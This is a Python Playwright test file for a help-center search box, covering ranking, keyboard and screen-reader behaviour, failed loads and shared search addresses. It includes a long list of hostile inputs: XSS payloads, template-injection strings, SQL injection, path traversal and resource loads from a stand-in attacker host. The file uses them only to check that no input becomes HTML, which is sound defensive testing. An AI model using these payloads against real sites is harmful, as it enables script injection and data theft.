"""The search box as a shopper meets it: with the keyboard, with a screen reader, without a network, and with malice."""

from __future__ import annotations

import json
import re
from string import ascii_lowercase
from typing import Any
from urllib.parse import quote, unquote

import pytest

from helpcenter import ranking

BOX = "[data-help-search]"
HIT = ".hit"

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script>alert(1)//",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=//evil.example/pixel.gif>",
    "<img src=\"x\" onerror='alert(1)'> refund",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></mtext><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css'</style>",
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=card>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img src=x onerror=alert(1)>",
    "<a href=javascript:alert(1)>refund</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<mark onclick=alert(1)>refund</mark>",
    "<b>refund</b>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//refund",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/refund",
    "https://evil.example/",
    '" onmouseover=alert(1) x="',
    "' autofocus onfocus=alert(1) '",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "`-alert(1)-`",
    "';alert(1);//",
    '\\";alert(1);//',
    "\\u003cscript\\u003ealert(1)",
    "{{ 7*7 }}",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% raw %}{{ refund.time }}",
    "[[${7*7}]]",
    "[x](javascript:alert(1))",
    '![x](x"onerror="alert(1))',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3C;svg onload=alert(1)&#x3E;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)",
    "＜script＞alert(1)＜/script＞",
    "\u202e<gpj.tpircs> dnufer",
    "\u2066refund\u2069\u202d",
    "\u200b\u200c\u200d\ufeff",
    "refund\u0000<script>alert(1)</script>",
    "\u0000",
    "\u0007\u001b[31mrefund",
    "\ud800",
    "\udc00 refund",
    "refund \ud83d",
    "\ud83d\ud83d",
    "\uffff\ufffe",
    "Z̵̢̛a̷l̶g̴o̵ refund",
    "💸" * 60,
    "a" * 3000,
    "<" * 3000,
    "\"'<>&\\/`=" * 40,
    "refund " * 300,
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "toString valueOf",
    "../../../etc/passwd",
    "'; DROP TABLE answers; --",
    "?q=<script>alert(1)</script>&q=2#<img src=x onerror=alert(1)>",
    "-1 OR 1=1",
    "%",
    "%E0%A4%A",
    "%00",
    "\\",
    "null",
    "undefined",
    "NaN",
    "[object Object]",
]


def type_in(page: Any, text: str) -> None:
    """Types into the box and waits for what it shows."""
    page.locator(BOX).press_sequentially(text)
    page.wait_for_selector(".pop:visible, .hits:visible")


def test_answers_come_as_one_types_with_marked_words_topic_and_snippet(page: Any, watch: Any, served: str) -> None:
    page.goto(served)
    type_in(page, "how long does a refund tak")
    page.wait_for_function("document.querySelector('.hit')")
    first = page.locator(HIT).first
    assert first.get_attribute("href") == served + "a/refund-time/"
    assert {"refund", "take"} <= {mark.lower() for mark in first.locator(".hit__q mark").all_inner_texts()}
    assert first.locator(".hit__t").inner_text() == "Refunds"
    assert len(first.locator(".hit__s").inner_text()) > 30
    assert 1 < page.locator(HIT).count() <= 6
    page.locator(BOX).fill("pay")  # a word of three letters is marked too
    page.wait_for_selector(".pop mark:text-is('pay')")
    assert watch.faults == []


def test_the_snippet_quotes_the_answer_where_the_summary_lacks_the_words(
    page: Any, served: str, built_site: Any
) -> None:
    entries = json.loads((built_site / "assets/search/index.json").read_text(encoding="utf-8"))["entries"]
    # A word of one answer's text that no summary and no question holds.
    short = " ".join(entry["summary"] + " " + entry["question"] for entry in entries.values()).lower()
    rare = next(
        word for entry in entries.values() for word in re.findall(r"[a-z]{9,}", entry["text"]) if word[:5] not in short
    )
    page.goto(served)
    type_in(page, rare)
    assert page.locator(f".hit__s mark:text-is('{rare}')").count() >= 1


def test_arrow_keys_choose_enter_opens_and_escape_closes(page: Any, watch: Any, served: str) -> None:
    page.goto(served)
    box = page.locator(BOX)
    assert box.get_attribute("role") == "combobox" and box.get_attribute("aria-expanded") == "false"
    assert page.get_by_label("Search the help center").get_attribute("id") == "q", "a placeholder is no name"
    type_in(page, "refund")
    page.wait_for_function("document.querySelector('.hit')")
    last = page.locator(HIT).count() - 1
    assert box.get_attribute("aria-expanded") == "true" and box.get_attribute("aria-activedescendant") is None
    assert page.get_by_role("listbox", name="Answers").get_attribute("id") == box.get_attribute("aria-controls")
    for key, chosen in (("ArrowDown", 0), ("ArrowDown", 1), ("ArrowUp", 0), ("ArrowUp", last), ("ArrowDown", 0)):
        box.press(key)
        assert box.get_attribute("aria-activedescendant") == f"hit-{chosen}"
        assert page.locator("[role=option][aria-selected=true]").evaluate_all(
            "(nodes) => nodes.map((node) => node.id)"
        ) == [f"hit-{chosen}"]
    box.press("Escape")
    assert page.locator(".pop").is_hidden() and box.input_value() == "refund"
    assert box.get_attribute("aria-expanded") == "false" and box.get_attribute("aria-activedescendant") is None
    box.press("ArrowDown")
    page.wait_for_selector(".pop:visible")
    box.press("ArrowUp")
    href = page.locator(HIT).nth(last).get_attribute("href")
    box.press("Enter")
    page.wait_for_url(href)
    assert watch.faults == []


def test_enter_without_a_choice_opens_the_search_page_with_the_words(page: Any, watch: Any, served: str) -> None:
    page.goto(served)
    type_in(page, "lost & found + 100%")
    page.locator(BOX).press("Enter")
    page.wait_for_url("**/search/?q=*")
    page.wait_for_selector(HIT)
    assert page.locator(BOX).input_value() == "lost & found + 100%"
    assert watch.faults == []


def test_the_panel_closes_when_the_focus_leaves_and_returns_with_it(page: Any, served: str) -> None:
    page.goto(served)
    type_in(page, "refund")
    page.locator("h1").click()
    assert page.locator(".pop").is_hidden()
    page.locator(BOX).focus()
    page.wait_for_selector(".pop:visible")
    page.locator(HIT).first.click()
    page.wait_for_url("**/a/*/")


def test_the_count_is_spoken_after_a_pause(page: Any, served: str) -> None:
    page.goto(served)
    status = page.locator("form [role=status]")
    type_in(page, "refund")
    assert status.inner_text() == "", "every key would interrupt the reader"
    page.wait_for_function("document.querySelector('form [role=status]').textContent")
    assert status.inner_text() == f"{page.locator(HIT).count()} answers."
    page.locator(BOX).fill("qqqqq")
    page.wait_for_function("document.querySelector('form [role=status]').textContent.startsWith('No answer found')")


@pytest.mark.parametrize("address", ["", "search/"])
def test_no_result_still_helps(page: Any, watch: Any, served: str, address: str) -> None:
    page.goto(served + address)
    type_in(page, "zzqx & <wvk>?")
    panel = page.locator(".pop, .hits")
    assert panel.locator(HIT).count() == 0
    assert "No answer found for “zzqx & <wvk>?”." in panel.inner_text()
    links = dict(panel.locator("a").evaluate_all("(links) => links.map((link) => [link.textContent, link.href])"))
    assert (
        links["Browse the topics"].endswith("/help/#topics")
        and links["Contact customer service"] == served + "contact/"
    )
    mail = links["Send your question by e-mail"]
    assert mail.startswith("mailto:") and unquote(mail.split("&body=")[1]) == "zzqx & <wvk>?"
    assert page.locator(BOX).get_attribute("aria-expanded") in (None, "false"), "there is no list to go through"
    assert watch.faults == []


def test_an_unsure_answer_says_so_and_offers_people(page: Any, served: str, built_site: Any) -> None:
    engine = ranking.prepare(json.loads((built_site / "assets/search/index.json").read_text(encoding="utf-8")))
    asked = (" ".join([*(f"zzqx{letter}vvk" for letter in ascii_lowercase[:more]), "account"]) for more in range(26))
    unsure = next(
        query for query in asked if (answer := ranking.rank(engine, query))["results"] and not answer["confident"]
    )
    page.goto(served)
    type_in(page, unsure)
    page.wait_for_selector(HIT)
    assert page.locator(".pop__note").inner_text().startswith("No clear answer for")
    assert page.locator(".pop__foot a").all_inner_texts() == [
        "See all results",
        "Browse the topics",
        "Contact customer service",
        "Send your question by e-mail",
    ]


def test_the_index_is_asked_for_at_the_first_focus_and_once(page: Any, watch: Any, served: str) -> None:
    page.goto(served, wait_until="networkidle")
    files = ("index.json", "lunr.js", "rank.js")
    assert [watch.count(name) for name in files] == [0, 0, 0]
    with page.expect_response("**/index.json"):
        page.locator(BOX).focus()
    assert page.locator(".pop").is_hidden()
    page.locator("h1").click()
    type_in(page, "refund")
    page.locator(BOX).fill("return")
    page.wait_for_function("document.querySelector('.hit')")
    assert [watch.count(name) for name in files] == [1, 1, 1]


@pytest.mark.parametrize("lost", ["index.json", "lunr.js", "rank.js"])
def test_a_failed_load_says_so_and_the_next_key_tries_again(page: Any, served: str, lost: str) -> None:
    page.route(f"**/{lost}", lambda route: route.abort())
    page.goto(served)
    type_in(page, "refun")
    assert (
        page.locator(".pop").inner_text()
        == "The search could not be loaded. Browse the topics or contact customer service."
    )
    assert page.locator(".pop a").count() == 2
    page.unroute(f"**/{lost}")
    page.locator(BOX).press_sequentially("d")
    page.wait_for_selector(HIT)
    assert "could not be loaded" not in page.locator(".pop").inner_text()


def test_a_server_error_is_a_failed_load_whatever_comes_with_it(page: Any, served: str, built_site: Any) -> None:
    page.route("**/index.json", lambda route: route.fulfill(status=503, path=built_site / "assets/search/index.json"))
    page.goto(served)
    type_in(page, "refund")
    assert "The search could not be loaded." in page.locator(".pop").inner_text()


def test_a_shared_search_is_restored_and_the_address_follows_the_words(page: Any, watch: Any, served: str) -> None:
    page.goto(served + "search/?q=" + quote("how long does a refund take?"))
    page.wait_for_selector(HIT)
    assert page.locator(BOX).input_value() == "how long does a refund take?"
    assert page.locator(HIT).first.get_attribute("href") == served + "a/refund-time/"
    assert page.locator(".hits__count").inner_text() == f"{page.locator(HIT).count()} answers"
    page.locator(BOX).fill("who & what?")
    page.wait_for_url("**/search/?q=who%20%26%20what%3F")
    page.locator(BOX).fill("warranty")
    page.wait_for_url("**/search/?q=warranty")
    page.locator(HIT).first.click()
    page.wait_for_url("**/a/*/")
    page.go_back()
    page.wait_for_selector(HIT)
    assert page.locator(BOX).input_value() == "warranty"
    page.locator(BOX).fill("")
    page.wait_for_url("**/search/")
    assert page.locator(HIT).count() == 0 or page.locator(".hits").is_hidden()
    assert watch.faults == []


def test_the_box_ranks_what_is_typed_as_the_command_does(page: Any, served: str, command: Any) -> None:
    queries = [
        "refund",
        "refun",
        "refun ",
        " pay with card",
        "how many days to return",
        "why was i charged",
        "buy",
        "money back",
    ]
    page.goto(served + "search/")
    shown = page.evaluate(
        """async (queries) => {
        const input = document.querySelector("[data-help-search]"), shown = [];
        for (const query of queries) {
            input.value = query;
            input.dispatchEvent(new Event("input"));
            await helpBox.load();
            await new Promise((done) => setTimeout(done));
            shown.push([...document.querySelectorAll(".hit")].map((link) => new URL(link.href).pathname));
        }
        return shown;
    }""",
        queries,
    )
    done = command("search", "--json", "--as-of", "2026-11-22", stdin="".join(f"{query}\n" for query in queries))
    expected = [[f"/help/{hit['url']}" for hit in json.loads(line)["results"]] for line in done.stdout.splitlines()]
    assert shown == expected and all(expected)


def test_the_page_of_a_missing_address_has_a_working_search(page: Any, watch: Any, served: str) -> None:
    assert page.goto(served + "no/such/page/").status == 404
    type_in(page, "refund time")
    page.wait_for_selector(HIT)
    page.locator(BOX).press("ArrowDown")
    page.locator(BOX).press("Enter")
    page.wait_for_url("**/help/a/*/")
    assert page.locator("h1").count() == 1
    assert watch.faults == []


def test_the_agents_desk_filters_and_says_how_many(page: Any, watch: Any, served: str) -> None:
    page.goto(served + "agents/")
    rows, count = page.locator(".desk__row"), page.locator("[data-count]")
    everything = rows.count()
    page.locator("[data-help-filter]").fill("how long does a refund take")
    page.wait_for_function("document.querySelector('[data-count]').textContent.includes('best first')")
    visible = page.locator(".desk__row:visible")
    assert visible.first.get_attribute("data-id") == "refund-time" and 1 <= visible.count() <= 10
    assert count.inner_text() == f"{visible.count()} answers, best first"
    page.locator("[data-help-filter]").fill("zzqx")
    page.wait_for_function("document.querySelector('[data-count]').textContent.startsWith('No answer found')")
    page.locator("[data-help-filter]").fill("")
    page.wait_for_function(f"document.querySelector('[data-count]').textContent === '{everything} answers'")
    assert page.locator(".desk__row:visible").count() == everything
    assert watch.faults == []


# Sets each text as if typed and reports what the page holds that it should not: in one go, as a keystroke takes a millisecond.
INSPECT = """async ([box, asked]) => {
    const input = document.querySelector(box), found = [];
    const outside = () => [...document.querySelectorAll("*")].filter((node) => !node.closest(".pop, .hits") && !node.matches("head > script[src]")).length;
    const type = async (text) => {
        input.value = text;
        input.dispatchEvent(new Event("input"));
        await (globalThis.helpBox.load());
        await new Promise((done) => setTimeout(done));
    };
    await type("refund");
    const before = outside();
    for (const text of JSON.parse(asked)) {
        await type(text);
        const panel = document.querySelector(".pop, .hits");
        const typed = input.value.trim().replace(/[\\ud800-\\udfff]/gu, "\\ufffd");
        if (outside() !== before) found.push([text, "the page has other elements"]);
        for (const node of panel?.querySelectorAll("*") ?? []) {
            if (!["DIV", "P", "A", "SPAN", "MARK"].includes(node.tagName)) found.push([text, node.outerHTML]);
            for (const { name } of node.attributes) if (!["class", "href", "id", "tabindex", "role", "aria-selected", "aria-label", "hidden"].includes(name)) found.push([text, name]);
            if (node.href !== undefined && !(node.href.startsWith(location.origin + "/help/") || node.href.startsWith("mailto:"))) found.push([text, node.href]);
        }
        if (panel && !panel.hidden) {
            const note = panel.querySelector(".pop__note, .hits__count")?.textContent ?? "";
            const body = panel.querySelector("a[href^='mailto:']")?.href.split("&body=")[1];
            if (note.includes("“") && !note.includes(`“${typed}”`)) found.push([text, note]);
            if (body !== undefined && decodeURIComponent(body) !== typed) found.push([text, body]);
        }
        else if (panel && typed) found.push([text, "no panel"]);
    }
    return found;
}"""


@pytest.mark.parametrize(("address", "box"), [("", BOX), ("search/", BOX), ("agents/", "[data-help-filter]")])
def test_no_hostile_text_typed_ever_becomes_html(page: Any, watch: Any, served: str, address: str, box: str) -> None:
    assert len(HOSTILE) >= 60
    page.goto(served + address)
    page.locator(box).focus()
    found = page.evaluate(INSPECT, [box, json.dumps(HOSTILE)])
    page.wait_for_timeout(600)  # the spoken count and the address come later
    assert [(text[:60], what) for text, what in found] == []
    assert watch.faults == []
    assert {url.rsplit("/", 1)[1] for url in watch.requests} <= {
        "",
        "main.57a0d79d.min.css",
        "help.css",
        "box.js",
        "agents.js",
        "favicon.svg",
        "index.json",
        "lunr.js",
        "rank.js",
    }


def test_no_hostile_address_ever_becomes_html(page: Any, watch: Any, served: str) -> None:
    expected = None
    for text in HOSTILE[::8] + ["\ud800"]:
        page.goto(served + "search/?q=" + quote(text[:1500], errors="surrogatepass"), wait_until="domcontentloaded")
        page.wait_for_function(
            "!document.querySelector('[data-help-search]').value.trim() || document.querySelector('.hits:not([hidden]) > *')"
        )
        outside = page.evaluate(
            "[...document.querySelectorAll('*')].filter((node) => !node.closest('.hits') && !node.matches('head > script[src]')).length"
        )
        expected = expected or outside
        strange = page.locator(".hits :not(div, p, a, span, mark)").count()
        assert (text, strange) == (text, 0)
        if page.locator(".hits:not([hidden])").count():
            assert (text, outside) == (text, expected)
    assert watch.faults == []
